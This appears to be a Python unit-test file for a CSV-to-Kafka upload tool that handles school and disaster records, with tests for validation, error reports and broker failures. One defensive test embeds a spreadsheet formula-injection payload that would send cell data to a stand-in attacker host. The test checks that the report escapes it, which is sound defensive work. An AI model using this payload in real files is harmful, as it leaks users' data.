"""``satubus upload`` from the outcomes of ``publish_batch``, with a stand-in broker and registry: every row is
published or in the report exactly once, and each row's record is validated once."""

from __future__ import annotations

import argparse
import csv
from pathlib import Path
from typing import Any

import pytest

from satubus.producers import upload
from satubus.schemas.record_models import agency_model
from satubus.settings import Settings
from tests.unit.fake_kafka import Fakes, count_validations, failed, install

HEADER = ["NISN", "Nama", "Tanggal Lahir", "JK", "NPSN", "Nama Sekolah", "Bentuk Pendidikan", "Tingkat", "Status"]
HEADER += ["Penerima KJP", "Kode Wilayah", "Tahun Ajaran"]


def student(i: int) -> list[str]:
    return [f"{i:010d}", f"Siswa {i}", "2014-07-01", "L", "20100001", "SDN Menteng 01", "SD", "3", "AKTIF", "tidak"]


def sheet(tmp_path: Path, rows: list[list[str]]) -> Path:
    path = tmp_path / "siswa.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([HEADER, *[[*r, "3173020001", "2026/2027"] for r in rows]])
    return path


def run(path: Path, **settings: Any) -> int:
    args = argparse.Namespace(
        file=path, agency="disdik", dataset="peserta_didik", key="NISN", map=[], report=None, timeout=1.0
    )
    return upload.main(args, Settings(namespace="kota", **settings))


def report(path: Path) -> list[tuple[int, str, str]]:
    with path.with_name(path.name + ".errors.csv").open(newline="") as f:
        return [(int(r["row"]), r["field"], r["reason"]) for r in csv.DictReader(f)]


@pytest.fixture
def fakes(monkeypatch: pytest.MonkeyPatch) -> Fakes:
    fakes = install(monkeypatch)
    monkeypatch.setattr(upload, "AvroSerde", fakes.serde)
    return fakes


def test_rows_are_published_or_reported_and_validated_once(
    fakes: Fakes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    validations = count_validations(monkeypatch, agency_model("disdik", "peserta_didik"))
    rows = [student(i) for i in range(1, 6)]
    rows[1][7] = "lima"  # row 3: a cell that is not a number
    rows[2][0] = ""  # row 4: no key
    fakes.fates = {1: failed()}  # row 5, the second row sent: the broker fails it
    path = sheet(tmp_path, rows)

    assert run(path) == 1
    assert "2 rows published to kota.agency.disdik.peserta_didik.v1, 3 rejected" in capsys.readouterr().out
    assert report(path) == [
        (3, "tingkat", "'lima' is not a valid int"),
        (4, "nisn", "Field required"),
        (5, "<broker>", "not published (Local: Message timed out); is Kafka up? Upload the row again"),
    ]
    assert [key for _, key, _ in fakes.produced] == [b"0000000001", b"0000000004", b"0000000005"]
    assert len(validations) == 4  # rows 2, 4, 5 and 6 once each (row 3 never was a record); 7 before


def test_an_empty_key_is_reported_by_its_field_after_the_records_own_errors() -> None:
    columns = upload.columns_of(upload.agency_record_schema("bpbd", "kejadian"))
    model = agency_model("bpbd", "kejadian")
    cells = {
        "id_kejadian": "B-1",
        "jenis": "BANJIR",
        "kelurahan": "Kampung Melayu",
        "status": "BERLANGSUNG",
        "waktu_kejadian": "2026-11-28T03:00:00+00:00",
        "pengungsi": "",  # a field that may be empty, used as the key
    }
    key = columns["pengungsi"]
    with pytest.raises(upload.RecordRejected) as caught:
        upload.row_change(cells, columns, {}, key, model, version=1)
    assert [(e.field, e.reason) for e in caught.value.errors] == [("pengungsi", "the key is empty")]
    with pytest.raises(upload.RecordRejected) as caught:
        upload.row_change(cells | {"status": ""}, columns, {}, key, model, version=1)
    assert [e.field for e in caught.value.errors] == ["status"]
    change = upload.row_change(cells | {"pengungsi": "12"}, columns, {}, key, model, version=7)
    assert (change.key, change.version, change.op, change.event_id) == ("12", 7, "r", None)


def test_a_broker_that_acknowledges_nothing_stops_the_upload(
    fakes: Fakes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(upload, "CHUNK", 2)
    fakes.fates = {0: failed(), 1: failed()}
    path = sheet(tmp_path, [student(i) for i in range(1, 7)])

    assert run(path) == 1
    assert "0 rows published" in capsys.readouterr().out
    assert len(fakes.produced) == 2  # the rest were not sent after the first chunk failed entirely
    lines = report(path)
    assert [(n, f) for n, f, _ in lines] == [(n, "<broker>") for n in range(2, 8)]
    assert lines[0][2].startswith("not published (Local: Message timed out)")
    assert lines[2][2].startswith("not sent: the broker acknowledged none of the rows before")


def test_a_file_over_a_limit_publishes_nothing_and_says_which_limit(
    fakes: Fakes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = sheet(tmp_path, [student(i) for i in range(1, 6)])

    assert run(path, upload_max_rows=4) == 2

    assert fakes.produced == [] and fakes.attempts == 0
    err = capsys.readouterr().err
    assert "siswa.csv has a row 6, beyond its first 4 data rows (SATUBUS_UPLOAD_MAX_ROWS)" in err
    assert "nothing was published" in err
    assert not path.with_name(path.name + ".errors.csv").exists()


def test_a_formula_in_what_the_report_echoes_is_written_as_text(fakes: Fakes, tmp_path: Path) -> None:
    """A column the dataset does not have is named in the report when its cell is too long: its header is the
    agency's text, and a spreadsheet opening the report must not run it."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"klik")'
    path = tmp_path / "siswa.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        rows = [[*student(1), "3173020001", "2026/2027", "x" * 20], [*student(2), "3173020001", "2026/2027", "ok"]]
        csv.writer(f).writerows([[*HEADER, formula], *rows])

    assert run(path, upload_max_cell_chars=19) == 1

    assert report(path) == [(2, "'" + formula, "20 characters, more than 19 (SATUBUS_UPLOAD_MAX_CELL_CHARS)")]
    assert [key for _, key, _ in fakes.produced] == [b"0000000002"]
